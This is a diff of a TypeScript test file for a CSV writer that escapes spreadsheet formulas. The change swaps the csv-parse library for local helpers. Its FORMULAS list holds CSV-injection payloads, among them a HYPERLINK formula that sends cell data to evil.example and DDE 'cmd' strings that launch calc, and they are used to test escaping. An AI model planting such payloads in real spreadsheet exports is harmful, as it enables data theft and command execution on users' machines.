@@ -1,7 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
-import { parse } from 'csv-parse/sync';
+import { csvRecords, csvRows } from '../helpers/csv.ts';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { csvLines, spreadsheetSafe } from '../../src/csv/csv-writer.ts';
 import { prepareOnlineRetail } from '../../src/datasets/online-retail.ts';
@@ -18,7 +18,7 @@ const files = tempFolder();
 const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1)', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
 
 /** The cells of a CSV text, as a spreadsheet or any CSV reader splits them. */
-const cells = (text: string | Buffer) => parse(text, { relax_column_count: true }) as string[][];
+const cells = (text: string | Buffer) => csvRows(text);
 
 describe('the one CSV writer', () => {
   it('prefixes every cell that a spreadsheet would read as a formula with a single quote', () => {
@@ -71,9 +71,9 @@ describe('every CSV the product writes goes through it', () => {
       const report = await accessReport(database.db, 'P1', 'test', NOW, 'portability');
       const dir = join(files.dir, 'bundle');
       writePortabilityBundle(report, dir);
-      const identity = parse(readFileSync(join(dir, 'identity.csv')), { columns: true }) as Array<Record<string, string>>;
+      const identity = csvRecords(readFileSync(join(dir, 'identity.csv')));
       expect(identity[0]).toMatchObject({ externalId: 'P1', phone: '+33639980001', firstName: "'@SUM(1+1)", lastName: "'+cmd|x" });
-      const purchases = parse(readFileSync(join(dir, 'purchases.csv')), { columns: true }) as Array<Record<string, string>>;
+      const purchases = csvRecords(readFileSync(join(dir, 'purchases.csv')));
       expect(purchases[0]).toMatchObject({ orderId: "'-1+1", productName: `'=HYPERLINK("http://evil.example")`, quantity: '2', unitPrice: '3.5' });
     });
   });
